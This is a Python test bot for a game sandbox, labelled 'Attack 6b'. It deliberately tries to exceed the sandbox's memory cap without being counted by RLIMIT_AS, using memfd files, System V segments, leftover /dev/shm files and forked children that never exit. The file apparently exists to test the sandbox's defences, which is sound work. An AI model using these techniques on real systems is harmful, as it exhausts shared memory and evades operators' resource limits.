"""Attack 6b: hold more memory than the bot's limit, in memory that the
address-space limit (``RLIMIT_AS``, one process at a time) does not count.

``how``:

- ``memfd``: ``memfd_create()`` files written with ``write()``, never
  mapped (at most 64 MiB a file, 256 files);
- ``sysv``: System V segments (``shmget``), each attached, filled and
  detached again: the pages stay with the segment;
- ``devshm``: files in ``/dev/shm`` (what ``shm_open`` makes: the host's
  tmpfs, which outlives the bot);
- ``fork``: child processes, each filling its own address space.

At its first step the bot tries to hold ``mib`` MiB this way; holding more
than ``cap`` MiB (the run's ``--memory``) is the attack working. A refused
call is the attack failing: the bot then plays on. ``marker`` names the
files it leaves in ``/dev/shm`` (for the test to remove).
"""

from __future__ import annotations

import ctypes
import os
import time

CHUNK = 1 << 20
FILE_MIB = 32


class SharedMemoryBot:
    def __init__(self, how: str = "memfd", mib: int = 1024, cap: int = 256, marker: str = "hostile-shm") -> None:
        self.how = how
        self.mib = int(mib)
        self.cap = int(cap)
        self.marker = marker
        self.done = False
        self.keep: list = []
        self.rng = None

    def restart(self, rules, seat, rng) -> None:
        self.rng = rng

    def step(self, view):
        if not self.done:
            self.done = True
            held = getattr(self, "_" + self.how)()
            if held > self.cap:
                raise RuntimeError(f"ATTACK WORKED: held {held} MiB by {self.how} over a {self.cap} MiB limit")
        return view.random_action(self.rng)

    # each returns the MiB it holds now
    def _memfd(self) -> int:
        held, chunk = 0, b"\1" * CHUNK
        try:
            while held < self.mib:
                fd = os.memfd_create(f"m{held}")
                self.keep.append(fd)
                for _ in range(FILE_MIB):
                    os.write(fd, chunk)
                held += FILE_MIB
        except OSError:
            pass
        return sum(os.fstat(fd).st_size for fd in self.keep) >> 20

    def _sysv(self) -> int:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmat.restype = ctypes.c_void_p
        libc.shmdt.argtypes = [ctypes.c_void_p]
        held, size = 0, FILE_MIB * CHUNK
        while held < self.mib:
            sid = libc.shmget(0, size, 0o1000 | 0o600)          # IPC_PRIVATE, IPC_CREAT
            if sid < 0:
                break
            addr = libc.shmat(sid, None, 0)
            if addr is None or addr == ctypes.c_void_p(-1).value:
                break
            ctypes.memset(addr, 1, size)
            libc.shmdt(addr)
            held += FILE_MIB
        return held

    def _devshm(self) -> int:
        held, chunk = 0, b"\1" * CHUNK
        try:
            while held < self.mib:
                with open(f"/dev/shm/{self.marker}-{held}", "wb") as fh:
                    for _ in range(FILE_MIB):
                        fh.write(chunk)
                held += FILE_MIB
        except OSError:
            pass
        return held

    def _fork(self) -> int:
        held, children = 0, {}
        for _ in range(16):
            if held >= self.mib:
                break
            r, w = os.pipe()
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:                  # the child: fill what its own limit lets it, and stay
                os.close(r)
                blocks, mine = [], 0
                try:
                    while True:
                        block = bytearray(16 * CHUNK)
                        block[::4096] = b"x" * len(block[::4096])
                        blocks.append(block)
                        mine += 16
                except MemoryError:
                    pass
                os.write(w, f"{mine}\n".encode())
                while True:
                    time.sleep(1000)
            os.close(w)
            with os.fdopen(r) as fh:
                line = fh.readline()
            children[pid] = int(line) if line.strip().isdigit() else 0
            held = sum(children.values())
        time.sleep(0.5)
        for pid in list(children):       # only what the children still alive hold counts
            if os.waitpid(pid, os.WNOHANG)[0]:
                del children[pid]
        return sum(children.values())
